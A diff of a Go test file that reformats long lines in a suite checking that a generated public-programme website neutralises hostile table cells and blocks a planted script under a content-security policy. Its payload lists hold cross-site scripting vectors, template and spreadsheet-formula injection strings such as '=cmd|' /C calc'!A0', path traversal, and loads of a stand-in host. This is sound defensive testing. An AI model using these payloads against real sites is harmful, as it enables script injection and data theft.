@@ -25,27 +25,42 @@ import (
 const settings = "[site]\ntitle = \"Public programmes\"\ncounty = \"A county\"\n"
 
 // hostile are cells that some layer might take for more than text.
-var hostile = []string{`<script>window.hostile=1</script>`, `</title><script>window.hostile=1</script>`, `<img src=x onerror=window.hostile=1>`,
-	`{{< value "x" >}}`, `{{% x %}}`, `{{ .Site }}`, `---`, `__f__window.hostile=1__f__`, `=cmd|' /C calc'!A0`, `"><svg onload=window.hostile=1>`,
-	`javascript:window.hostile=1`, `[x](javascript:window.hostile=1)`, `{a}{b}{c}`, `{x|y}`, `&lt;script&gt;`, "`x`", `</script>`, `<!--`, `]]>`, `${x}`, `%00`, `\u003cscript\u003e`}
+var hostile = []string{`<script>window.hostile=1</script>`, `</title><script>window.hostile=1</script>`,
+	`<img src=x onerror=window.hostile=1>`,
+	`{{< value "x" >}}`, `{{% x %}}`, `{{ .Site }}`, `---`, `__f__window.hostile=1__f__`, `=cmd|' /C calc'!A0`,
+	`"><svg onload=window.hostile=1>`,
+	`javascript:window.hostile=1`, `[x](javascript:window.hostile=1)`, `{a}{b}{c}`, `{x|y}`, `&lt;script&gt;`, "`x`",
+	`</script>`, `<!--`, `]]>`, `${x}`, `%00`, `\u003cscript\u003e`}
 
 // payloads are texts that some layer might take for more than text: each family in
 // each dress. What runs sets window.hostile or asks elsewhere.example for something.
 func payloads() []string {
 	const run, far = "window.hostile=1", "https://elsewhere.example/x"
 	families := []string{
-		"<script>" + run + "</script>", "<ScRiPt>" + run + "</sCrIpT>", `<script src="` + far + `.js"></script>`, "<img src=x onerror=" + run + ">",
-		`<img src="` + far + `.png">`, "<svg onload=" + run + ">", `<svg><script>` + run + `</script></svg>`, `<svg><a xlink:href="javascript:` + run + `"><text>x</text></a></svg>`,
-		`<math><mtext><table><mglyph><style><img src=x onerror=` + run + `>`, `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`, `<iframe src="` + far + `"></iframe>`,
-		`<object data="` + far + `"></object>`, `<embed src="` + far + `">`, `<link rel=stylesheet href="` + far + `.css">`, `<style>@import "` + far + `.css";</style>`,
-		`<base href="https://elsewhere.example/">`, `<meta http-equiv=refresh content="0;url=` + far + `">`, `<form action="` + far + `"><button>x</button></form>`,
-		`<body onload=` + run + `>`, `<details open ontoggle=` + run + `>`, `<input autofocus onfocus=` + run + `>`, `<video><source onerror=` + run + `></video>`,
-		`<a href="javascript:` + run + `">x</a>`, `[x](javascript:` + run + `)`, `![x](` + far + `.png)`, "javascript:" + run, `data:text/html,<script>` + run + `</script>`,
-		"__f__" + run + "__f__", `"__f__function(){` + run + `}__f__"`, `{{< value "x" >}}`, `{{% x %}}`, `{{ .Site.Title | safeHTML }}`, `{{ printf "%s" . }}`,
-		"---\ntitle: x\n---"[4:12], "+++", "${" + run + "}", "`" + run + "`", "{a|b}", "{b}{c}{d}", "#{" + run + "}", "<%= " + run + " %>",
-		`{"a":"</script><script>` + run + `</script>"}`, "<!--<script>", "]]><script>" + run + "</script>", "&lt;script&gt;" + run + "&lt;/script&gt;", "&amp;lt;b&amp;gt;",
-		"&#60;script&#62;", `\u003cscript\u003e` + run, "%3Cscript%3E" + run, `x:expression(` + run + `)`, "url(" + far + ")", "**x** _y_ ~z~ # h", "| a | b |", "1. x", "- x",
-		"2*3*4", "1--2", strings.Repeat("<i>长", 600), "=cmd|' /C calc'!A0", "@SUM(1)", "+1+cmd", "-2+3", "%00", "%s%n%d", "../../../x", "C:\\x\\y",
+		"<script>" + run + "</script>", "<ScRiPt>" + run + "</sCrIpT>", `<script src="` + far + `.js"></script>`,
+		"<img src=x onerror=" + run + ">",
+		`<img src="` + far + `.png">`, "<svg onload=" + run + ">", `<svg><script>` + run + `</script></svg>`,
+		`<svg><a xlink:href="javascript:` + run + `"><text>x</text></a></svg>`,
+		`<math><mtext><table><mglyph><style><img src=x onerror=` + run + `>`,
+		`<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`, `<iframe src="` + far + `"></iframe>`,
+		`<object data="` + far + `"></object>`, `<embed src="` + far + `">`, `<link rel=stylesheet href="` + far + `.css">`,
+		`<style>@import "` + far + `.css";</style>`,
+		`<base href="https://elsewhere.example/">`, `<meta http-equiv=refresh content="0;url=` + far + `">`,
+		`<form action="` + far + `"><button>x</button></form>`,
+		`<body onload=` + run + `>`, `<details open ontoggle=` + run + `>`, `<input autofocus onfocus=` + run + `>`,
+		`<video><source onerror=` + run + `></video>`,
+		`<a href="javascript:` + run + `">x</a>`, `[x](javascript:` + run + `)`, `![x](` + far + `.png)`, "javascript:" +
+			run, `data:text/html,<script>` + run + `</script>`,
+		"__f__" + run + "__f__", `"__f__function(){` + run + `}__f__"`, `{{< value "x" >}}`, `{{% x %}}`,
+		`{{ .Site.Title | safeHTML }}`, `{{ printf "%s" . }}`,
+		"---\ntitle: x\n---"[4:12], "+++", "${" + run + "}", "`" + run + "`", "{a|b}", "{b}{c}{d}", "#{" + run + "}",
+		"<%= " + run + " %>",
+		`{"a":"</script><script>` + run + `</script>"}`, "<!--<script>", "]]><script>" + run + "</script>",
+		"&lt;script&gt;" + run + "&lt;/script&gt;", "&amp;lt;b&amp;gt;",
+		"&#60;script&#62;", `\u003cscript\u003e` + run, "%3Cscript%3E" + run, `x:expression(` + run + `)`, "url(" + far +
+			")", "**x** _y_ ~z~ # h", "| a | b |", "1. x", "- x",
+		"2*3*4", "1--2", strings.Repeat("<i>长", 600), "=cmd|' /C calc'!A0", "@SUM(1)", "+1+cmd", "-2+3", "%00", "%s%n%d",
+		"../../../x", "C:\\x\\y",
 	}
 	dresses := []func(string) string{
 		func(s string) string { return s },
@@ -82,7 +97,8 @@ func hostileCell(of table.Table, header string, c table.Column, i int, all []str
 		if of.Name == "targets" && c.Name == "place" && i%2 == 0 { // which would be named behind the target
 			return ""
 		}
-		return map[string]string{"target": fmt.Sprintf("ta%d", i), "project": fmt.Sprintf("pr%d", i), "place": fmt.Sprintf("pl%d", i)}[c.Name]
+		return map[string]string{"target": fmt.Sprintf("ta%d", i), "project": fmt.Sprintf("pr%d", i),
+			"place": fmt.Sprintf("pl%d", i)}[c.Name]
 	case table.NumberKind, table.MoneyKind:
 		return "5"
 	case table.DateKind:
@@ -99,7 +115,8 @@ func hostileCell(of table.Table, header string, c table.Column, i int, all []str
 			}
 			return c.Words[i%len(c.Words)].Kept()
 		}
-		set, special := map[string]string{"unit": "个", "period": "2014", "schedule": "", "link": "", "subject": fmt.Sprintf("pr%d", i)}[c.Name]
+		set, special := map[string]string{"unit": "个", "period": "2014", "schedule": "", "link": "",
+			"subject": fmt.Sprintf("pr%d", i)}[c.Name]
 		if special {
 			return set
 		}
@@ -143,8 +160,10 @@ func hostileWorkspace(t *testing.T, dir string, all []string) {
 			t.Fatal(w.Error())
 		}
 	}
-	settings := fmt.Sprintf("[site]\ntitle = %q\ntitle_en = %q\ncounty = %q\nexample = true\nmark = %q\n[privacy]\nofficers = true\n", all[0], all[3], all[5], all[7])
-	settings += fmt.Sprintf("[government]\nsponsor = %q\noperator = %q\naddress = %q\n[government.columns.projects]\nindex = %q\ntheme = %q\n", all[1], all[2], all[4], all[6], all[8])
+	settings := fmt.Sprintf("[site]\ntitle = %q\ntitle_en = %q\ncounty = %q\nexample = true\nmark = "+
+		"%q\n[privacy]\nofficers = true\n", all[0], all[3], all[5], all[7])
+	settings += fmt.Sprintf("[government]\nsponsor = %q\noperator = %q\naddress = "+
+		"%q\n[government.columns.projects]\nindex = %q\ntheme = %q\n", all[1], all[2], all[4], all[6], all[8])
 	if err := os.WriteFile(filepath.Join(dir, "gongshi.toml"), []byte(settings), 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -195,7 +214,8 @@ func (h *harm) visit(ctx context.Context, t *testing.T, address string) (heading
 		return [...document.querySelectorAll("h1, td, th, dd, dt, p, a, span, h3, li, small")].map(above) })()`
 	texts, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](touch))
 	if err == nil {
-		heading, err = chromedp.Run(ctx, chromedp.Evaluate[string](`(document.querySelector("h1") || {textContent: ""}).textContent`))
+		heading, err = chromedp.Run(ctx,
+			chromedp.Evaluate[string](`(document.querySelector("h1") || {textContent: ""}).textContent`))
 	}
 	ran := false
 	if err == nil {
@@ -296,7 +316,8 @@ func TestPlantedPayload(t *testing.T) {
 	mux.HandleFunc("/open.html", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintf(w, body, "") })
 	mux.HandleFunc("/stopped.html", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintf(w, body, policy) })
 	mux.HandleFunc("/sink.html", func(w http.ResponseWriter, _ *http.Request) {
-		fmt.Fprint(w, `<!DOCTYPE html><html><head>`+policy+`<title>x</title><script defer src="sink.js"></script></head><body><h1></h1></body></html>`)
+		fmt.Fprint(w, `<!DOCTYPE html><html><head>`+policy+
+			`<title>x</title><script defer src="sink.js"></script></head><body><h1></h1></body></html>`)
 	})
 	mux.HandleFunc("/sink.js", func(w http.ResponseWriter, _ *http.Request) {
 		w.Header().Set("Content-Type", "text/javascript")
@@ -314,7 +335,9 @@ func TestPlantedPayload(t *testing.T) {
 		t.Errorf("a script of the site that writes markup was not stopped: %q", did.did)
 	}
 	did.visit(ctx, t, server.URL+"/open.html")
-	if len(requests.elsewhere(server.URL)) == 0 || !slices.ContainsFunc(did.did, func(s string) bool { return strings.HasSuffix(s, "ran a script") }) {
+	if len(requests.elsewhere(server.URL)) == 0 || !slices.ContainsFunc(did.did, func(s string) bool {
+		return strings.HasSuffix(s, "ran a script")
+	}) {
 		t.Errorf("an open page did %q and asked for %q", did.did, requests.elsewhere(server.URL))
 	}
 	did.visit(ctx, t, server.URL+"/stopped.html")
